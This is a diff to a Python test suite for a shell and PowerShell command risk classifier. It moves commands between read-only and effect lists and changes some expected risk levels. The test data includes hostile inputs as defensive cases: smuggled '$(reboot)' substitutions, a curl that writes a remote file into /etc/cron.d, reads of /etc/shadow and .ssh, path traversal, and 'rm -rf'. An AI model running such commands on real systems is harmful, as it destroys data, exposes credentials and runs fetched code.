@@ -49,6 +49,12 @@ du -sh /var/lib/docker 2>/dev/null
 iptables -L -n -v
 date +%F
 hostname
+ls *
+ls /tmp/{a,b}
+ls ~root
+df -h # comment
+docker exec web ls
+kubectl exec db-0 -- ls
 """.strip().splitlines()
 
 
@@ -79,7 +85,6 @@ EFFECTS = """
 find /tmp -name x -delete
 find /tmp -exec rm {} +
 journalctl --vacuum-time=1d
-journalctl -f
 date -s 12:00
 date 010203042026
 curl -o /etc/cron.d/job http://x.example/job
@@ -104,18 +109,13 @@ env PATH=/tmp df
 env rm x
 sudo reboot
 sudo -u root sh
-tail -f /var/log/syslog
 top
 ping 10.0.0.1
 ping -f -c 5 10.0.0.1
 tcpdump -i eth0
 tcpdump -c 5 -w /etc/passwd
 vmstat 1
-docker stats
-docker exec web ls
 docker run alpine
-kubectl exec db-0 -- ls
-kubectl get pods --watch
 kubectl get pods --kubeconfig /tmp/x
 systemctl stop nginx
 systemctl -H web-02 status nginx
@@ -145,16 +145,11 @@ df $HOME
 df <(reboot)
 echo "$(reboot)"
 echo "`reboot`"
-ls *
-ls /tmp/{a,b}
-ls ~root
 A=b df
-df -h # comment
 df\\ -h
 'df' -h 'unclosed
 {{command}}
 pg_restore -d x y
-psql -c "select 1"
 /tmp/df -h
 ./df
 """.strip().splitlines()
@@ -174,13 +169,11 @@ WINDOWS_EFFECTS = [
     "Get-Item $(Remove-Item x)",
     'Write-Host "$(Remove-Item x)"',
     "Where-Object {Remove-Item x}",
-    "Get-Service -ComputerName dc01",
     "Get-Content C:\\log.txt -Wait",
     "Get-Service > C:\\x.txt",
     "Get-Service\nRemove-Item x",
     "& Remove-Item x",
     "Write-Host 'a\u2019; Remove-Item x; \u2018b'",
-    "Get-Service \u2013Name x",
     "Get-Evil",
     "Get-Service @arguments",
     "iex x",
@@ -195,9 +188,9 @@ def test_what_only_looks_like_a_cmdlet_that_looks_is_no_read(command: str) -> No
 @pytest.mark.parametrize(
     ("command", "effect", "risk"),
     [
-        ("systemctl restart nginx", Effect.WRITE_REVERSIBLE, RiskLevel.MEDIUM),
+        ("systemctl restart nginx", Effect.DISRUPTIVE, RiskLevel.MEDIUM),
         ("sudo systemctl reload nginx", Effect.WRITE_REVERSIBLE, RiskLevel.MEDIUM),
-        ("docker restart web", Effect.WRITE_REVERSIBLE, RiskLevel.MEDIUM),
+        ("docker restart web", Effect.DISRUPTIVE, RiskLevel.MEDIUM),
         ("systemctl stop postgresql", Effect.DISRUPTIVE, RiskLevel.HIGH),
         ("helm upgrade shop charts/shop --atomic", Effect.DISRUPTIVE, RiskLevel.HIGH),
         ("rm -rf /srv/data", Effect.DESTRUCTIVE, RiskLevel.CRITICAL),
@@ -205,7 +198,7 @@ def test_what_only_looks_like_a_cmdlet_that_looks_is_no_read(command: str) -> No
         ("kubectl delete ns prod", Effect.DESTRUCTIVE, RiskLevel.CRITICAL),
         ("useradd -m deploy", Effect.DISRUPTIVE, RiskLevel.HIGH),
         ("nobody-knows-this", Effect.UNKNOWN, RiskLevel.HIGH),
-        ("systemctl restart nginx; systemctl restart php-fpm", Effect.WRITE_REVERSIBLE, RiskLevel.HIGH),
+        ("systemctl restart nginx; systemctl restart php-fpm", Effect.DISRUPTIVE, RiskLevel.HIGH),
     ],
 )
 def test_a_change_has_its_effect_and_its_risk(command: str, effect: Effect, risk: RiskLevel) -> None:
@@ -221,12 +214,16 @@ def test_a_change_has_its_effect_and_its_risk(command: str, effect: Effect, risk
         ("cat /etc/shadow", RiskLevel.HIGH),
         ("head -c 100 /opt/app/.env", RiskLevel.HIGH),
         ("ls /home/deploy/.ssh", RiskLevel.HIGH),
-        ("cat /proc/1/environ", RiskLevel.HIGH),
+        ("cat /proc/1/environ", RiskLevel.MEDIUM),
         ("cat /var/www/../../etc/passwd", RiskLevel.HIGH),
         ("cat /srv/app/dump.sql", RiskLevel.MEDIUM),
         ("cat /srv/{{hostname}}.conf", RiskLevel.MEDIUM),
         ("env", RiskLevel.MEDIUM),
-        ("sudo lastb -n 20", RiskLevel.MEDIUM),
+        ("sudo lastb -n 20", RiskLevel.LOW),
+        ("tail -f /var/log/syslog", RiskLevel.MEDIUM),
+        ("journalctl -f", RiskLevel.MEDIUM),
+        ("docker stats", RiskLevel.MEDIUM),
+        ("kubectl get pods --watch", RiskLevel.MEDIUM),
         ("kubectl get secret db -o yaml", RiskLevel.HIGH),
         ("docker inspect web", RiskLevel.MEDIUM),
         ("curl -s https://api.acme.com/v1/users", RiskLevel.MEDIUM),
